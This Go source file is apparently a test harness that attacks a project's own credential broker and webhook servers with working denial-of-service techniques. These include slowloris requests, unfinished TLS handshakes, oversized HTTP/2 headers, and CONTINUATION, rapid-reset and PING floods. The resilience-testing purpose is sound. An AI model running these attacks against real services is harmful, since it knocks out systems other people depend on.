// Package attack attacks a server as a client without a token can. It keeps silent connections open, sends requests
// that never end, sends headers that cost as much memory as possible, floods the server with frames, and reconnects
// immediately.
//
// An attack by connections is a step of a table, which one connection goes through. [Start] runs it in a process of its
// own, with as many connections as it can keep in that step. It guarantees that nothing of an attack remains after its
// end. It does not check the server: tests beside the attack do.
package attack

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// steps are the attacks by name. Sizes are those that the servers' limits allow, or just exceed.
var steps = map[string]step{
	"silence after the handshake":    func(context.Context, net.Conn) error { return nil },
	"connecting again":               func(context.Context, net.Conn) error { return errComplete },
	"a ClientHello without end":      unfinishedHello(15 << 10),
	"a long ClientHello without end": unfinishedHello(63 << 10),

	"silence after SETTINGS":      h2Step(func(*h2) {}),
	"an open call":                h2Step(func(c *h2) { c.open(1, c.headers(token("none")...), true) }),
	"large headers":               headersWithoutEnd(1, large(19<<10)),
	"large headers twice":         headersWithoutEnd(1, large(13<<10)),
	"large headers in 16 streams": headersWithoutEnd(16, large(17<<10)),
	"many headers":                headersWithoutEnd(1, many(19<<10)),
	"many headers in 16 streams":  headersWithoutEnd(16, many(19<<10)),
	"a message in crumbs":         h2Step(func(c *h2) { c.crumbledMessage(2000) }),
	"everything at once":          h2Step(func(c *h2) { c.everything(19<<10, 27<<10) }),
	"one byte a time":             drippedCall,
	"calls by nobody":             calls(func() string { return "nobody" }, new(atomic.Int64)),
	"resets":                      flood((*h2).reset),
	"PING without end":            flood(func(c *h2, _ uint32) { _ = c.framer.WritePing(false, [8]byte{}) }),
	"SETTINGS without end":        flood(func(c *h2, _ uint32) { _ = c.framer.WriteSettings() }),
	"CONTINUATION without end":    flood((*h2).continuation),

	"an idle connection":        keepAlive("/healthz"),
	"a scrape and then silence": keepAlive("/metrics"),
	"a head without end":        send(request(4800, "")),
	"a large head without end":  send(request(40<<10, "")),
	"many headers without end":  send(manyFields(4800)),
	"a body that does not come": send(request(4800, "Content-Length: 6291456\r\n\r\n")),
	"a body without end": func(ctx context.Context, conn net.Conn) error {
		_, err := conn.Write(request(4800, "Content-Length: 6291456\r\n\r\n"))
		if err != nil {
			return err
		}
		return drip(ctx, conn, bytes.Repeat([]byte{' '}, 6<<20))
	},
}

// step attacks with one connection. After nil, the connection stays open until the server closes it. An error ends the
// connection, and another one is opened.
type step func(ctx context.Context, conn net.Conn) error

// errComplete ends a connection whose step is complete.
var errComplete = errors.New("this connection is complete")

// target is a server, and the local address of the attacker.
type target struct {
	address, source string
	tls             *tls.Config // nil: no TLS. Steps for HTTP/2 need NextProtos "h2"
}

// count is what an attack has done so far.
type count struct {
	opened atomic.Int64 // connections
	held   atomic.Int64 // connections at the end of their step now
	sent   atomic.Int64 // bytes written to TCP
}

// pause is how long an attacker waits after the server has rejected a connection. It protects the attacker: a
// ClientHello costs a client more than closing the connection costs a server.
const pause = 100 * time.Millisecond

// run keeps n connections in a step until ctx ends. It replaces a connection that has ended: at once if its step was
// complete, otherwise after a pause.
func (t target) run(ctx context.Context, n int, s step, c *count) {
	var running sync.WaitGroup
	defer running.Wait()
	for range n {
		running.Go(func() {
			for ctx.Err() == nil {
				if err := t.once(ctx, s, c); err != nil && !errors.Is(err, errComplete) {
					sleep(ctx, pause)
				}
			}
		})
	}
}

func sleep(ctx context.Context, d time.Duration) {
	select {
	case <-time.After(d):
	case <-ctx.Done():
	}
}

// counting counts the written bytes.
type counting struct {
	net.Conn
	sent *atomic.Int64
}

func (c counting) Write(b []byte) (int, error) {
	n, err := c.Conn.Write(b)
	c.sent.Add(int64(n))
	return n, err
}

// once takes one connection through a step, and holds it until one side closes it.
func (t target) once(ctx context.Context, s step, c *count) error {
	tcp, err := dialer(t.source).DialContext(ctx, "tcp", t.address)
	if err != nil {
		return err
	}
	defer context.AfterFunc(ctx, func() { _ = tcp.Close() })() // ends every read and write
	defer tcp.Close()
	c.opened.Add(1)
	var conn net.Conn = counting{tcp, &c.sent}
	if t.tls != nil {
		secured := tls.Client(conn, t.tls)
		if err := secured.HandshakeContext(ctx); err != nil {
			return err
		}
		conn = secured
	}
	if err := s(ctx, conn); err != nil {
		return err
	}
	c.held.Add(1)
	defer c.held.Add(-1)
	_, _ = io.CopyBuffer(io.Discard, struct{ io.Reader }{conn}, make([]byte, 512))
	return nil
}

func dialer(source string) *net.Dialer {
	return &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(source)}}
}

// h2 is the client's side of an HTTP/2 connection. Frames are collected in out until flush.
type h2 struct {
	conn   net.Conn
	framer *http2.Framer
	block  bytes.Buffer
	fields *hpack.Encoder
	out    bytes.Buffer
	err    error // the first error of flush
}

// newH2 has collected the frames with which every HTTP/2 client begins.
func newH2(conn net.Conn) *h2 {
	c := &h2{conn: conn}
	c.framer = http2.NewFramer(&c.out, conn)
	c.fields = hpack.NewEncoder(&c.block)
	c.out.WriteString(http2.ClientPreface)
	_ = c.framer.WriteSettings()
	return c
}

// h2Step makes a step of a function that sends frames after those with which every client begins.
func h2Step(do func(*h2)) step {
	return func(_ context.Context, conn net.Conn) error {
		c := newH2(conn)
		c.flush()
		do(c)
		c.flush()
		return c.err
	}
}

func (c *h2) flush() {
	if c.err == nil && c.out.Len() > 0 {
		_, c.err = c.conn.Write(c.out.Bytes())
	}
	c.out.Reset()
}

// headers returns the block of a call of the broker's method, with further fields.
func (c *h2) headers(further ...hpack.HeaderField) []byte {
	c.block.Reset()
	for _, f := range append([]hpack.HeaderField{
		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "https"},
		{Name: ":path", Value: "/credence.broker.v1.Broker/GetCredentials"}, {Name: ":authority", Value: "broker"},
		{Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"},
	}, further...) {
		_ = c.fields.WriteField(f)
	}
	return c.block.Bytes()
}

// token is the field with a token; there is none without a token.
func token(text string) []hpack.HeaderField {
	if text == "" {
		return nil
	}
	return []hpack.HeaderField{{Name: "authorization", Value: "Bearer " + text}}
}

// maxFrame is the frame size that every server must accept (RFC 9113, 4.2), and the limit of most.
const maxFrame = 16 << 10

// open sends a block of headers in as many frames as it needs. If end is false, the block has no end.
func (c *h2) open(stream uint32, block []byte, end bool) {
	for first := true; first || len(block) > 0; first = false {
		part := block[:min(len(block), maxFrame)]
		block = block[len(part):]
		last := end && len(block) == 0
		if first {
			_ = c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: part, EndHeaders: last})
		} else {
			_ = c.framer.WriteContinuation(stream, last, part)
		}
	}
	c.flush()
}

// filler is a value that neither Huffman coding nor the dynamic table makes shorter.
func filler(n int) string { return string(bytes.Repeat([]byte{'~'}, n)) }

// large is one field of size bytes, which does not enter the dynamic table.
func large(size int) []hpack.HeaderField {
	return []hpack.HeaderField{{Name: "authorization", Value: filler(size), Sensitive: true}}
}

// many has the maximum number of fields that a server with a limit of size bytes accepts. Each is as small as a field
// can be, so the overhead counts most. Servers count 32 bytes more for each field (RFC 9113, 10.5.1).
func many(size int) []hpack.HeaderField {
	fields := make([]hpack.HeaderField, size/34-10)
	for i := range fields {
		fields[i] = hpack.HeaderField{Name: strconv.FormatInt(int64(i), 36), Sensitive: true}
	}
	return fields
}

// headersWithoutEnd opens calls with these headers, which do not end, and one more call whose headers do not end.
func headersWithoutEnd(streams uint32, fields []hpack.HeaderField) step {
	return h2Step(func(c *h2) {
		for i := range streams + 1 {
			c.open(2*i+1, c.headers(fields...), i < streams)
		}
	})
}

// message is the beginning of a gRPC message of size bytes.
func message(size uint32) []byte {
	return append([]byte{0}, binary.BigEndian.AppendUint32(nil, size)...)
}

// crumbledMessage opens a call and sends its message of size bytes in frames of one byte, without the last.
func (c *h2) crumbledMessage(size int) {
	c.open(1, c.headers(), true)
	for _, b := range append(message(uint32(size)), make([]byte, size-1)...) { //nolint:gosec // It is small.
		_ = c.framer.WriteData(1, false, []byte{b})
	}
}

// everything makes a server fill each of its buffers. It sends a frame and a TLS record of the maximum size, and a call
// with many headers and a part of its message in crumbs. Then it sends a block of many headers without end. It sends at
// most total bytes.
func (c *h2) everything(size, total int) {
	_ = c.framer.WriteRawFrame(0xfe, 0, 0, make([]byte, maxFrame-64)) // an extension frame, which servers ignore (RFC 9113, 5.5)
	c.flush()
	fields := many(size)
	c.open(1, c.headers(fields...), true)
	last := bytes.Clone(c.headers(fields...))
	left := total - maxFrame - 2*len(last) - 1<<10 // TLS adds some
	crumbs := append(message(4<<10), make([]byte, max(left, 0))...)
	for i := 0; left > 0; i, left = i+1, left-10 {
		_ = c.framer.WriteData(1, false, crumbs[i:i+1])
	}
	c.open(3, last, false)
}

// unfinishedHello begins a TLS handshake with a ClientHello of size bytes, without the last byte. It needs a target
// without TLS.
func unfinishedHello(size int) step {
	hello := append([]byte{1}, binary.BigEndian.AppendUint32(nil, uint32(size))[1:]...) //nolint:gosec // It is small. RFC 8446, 4
	hello = append(hello, make([]byte, size-1)...)
	var out []byte
	for len(hello) > 0 {
		part := hello[:min(len(hello), 16<<10)] // 5.1
		hello = hello[len(part):]
		out = binary.BigEndian.AppendUint16(append(out, 22, 3, 1), uint16(len(part))) //nolint:gosec // It is a record's.
		out = append(out, part...)
	}
	return send(out)
}

// drippedCall sends a call one byte at a time, without the last byte.
func drippedCall(ctx context.Context, conn net.Conn) error {
	c := newH2(conn)
	_ = c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.headers(large(1000)...), EndHeaders: true})
	return drip(ctx, conn, c.out.Bytes())
}

// drip sends one byte each 100 ms, without the last byte.
func drip(ctx context.Context, conn net.Conn, text []byte) error {
	for i := range text[:len(text)-1] {
		if _, err := conn.Write(text[i : i+1]); err != nil {
			return err
		}
		sleep(ctx, 100*time.Millisecond)
	}
	return ctx.Err()
}

// flood sends the frames of next until the connection is closed, and drops what it receives.
func flood(next func(c *h2, i uint32)) step {
	return h2Step(func(c *h2) {
		go func() { _, _ = io.Copy(io.Discard, c.conn) }() // ends with the connection
		for i := uint32(0); c.err == nil; i++ {
			if next(c, i); c.out.Len() >= 4<<10 {
				c.flush()
			}
		}
	})
}

// reset opens a call and resets it at once.
func (c *h2) reset(i uint32) {
	_ = c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*i + 1, BlockFragment: c.headers(), EndHeaders: true})
	_ = c.framer.WriteRSTStream(2*i+1, http2.ErrCodeCancel)
}

// continuation continues one block of headers.
func (c *h2) continuation(i uint32) {
	if i == 0 {
		_ = c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.headers()})
	}
	_ = c.framer.WriteContinuation(1, false, nil)
}

// calls makes one complete call after the other with the next token, and counts the responses. The broker must refuse the
// calls: responses with data would exhaust the connection's window.
func calls(next func() string, responses *atomic.Int64) step {
	return h2Step(func(c *h2) {
		for stream := uint32(1); c.err == nil; stream += 2 {
			c.open(stream, c.headers(token(next())...), true)
			_ = c.framer.WriteData(stream, true, make([]byte, 5))
			c.flush()
			for c.err == nil && !c.ends(stream) {
			}
			if c.err == nil {
				responses.Add(1)
			}
		}
	})
}

// ends reads a frame and reports whether it ends the stream.
func (c *h2) ends(stream uint32) bool {
	frame, err := c.framer.ReadFrame()
	if err != nil {
		c.err = err
		return false
	}
	if settings, ok := frame.(*http2.SettingsFrame); ok && !settings.IsAck() {
		_ = c.framer.WriteSettingsAck()
	}
	header := frame.Header()
	return header.StreamID == stream && header.Flags.Has(http2.FlagDataEndStream) || header.Type == http2.FrameRSTStream
}

// send sends text and nothing more.
func send(text []byte) step {
	return func(_ context.Context, conn net.Conn) error {
		_, err := conn.Write(text)
		return err
	}
}

// keepAlive requests path once over HTTP/1.1, and keeps the connection.
func keepAlive(path string) step {
	return func(_ context.Context, conn net.Conn) error {
		if _, err := io.WriteString(conn, "GET "+path+" HTTP/1.1\r\nHost: webhook\r\n\r\n"); err != nil {
			return err
		}
		_, err := conn.Read(make([]byte, 512))
		return err
	}
}

// request is the beginning of an HTTP/1.1 request for a review with about size bytes of headers, and then end.
func request(size int, end string) []byte {
	return fmt.Appendf(nil, "POST /mutate HTTP/1.1\r\nHost: webhook\r\nContent-Type: application/json\r\nX: %s\r\n%s", filler(size), end)
}

// manyFields is a request without end, whose headers are as small as headers can be.
func manyFields(size int) []byte {
	out := request(0, "")
	for i := 0; len(out) < size; i++ {
		out = fmt.Appendf(out, "%s:\r\n", strconv.FormatInt(int64(i), 36))
	}
	return out
}
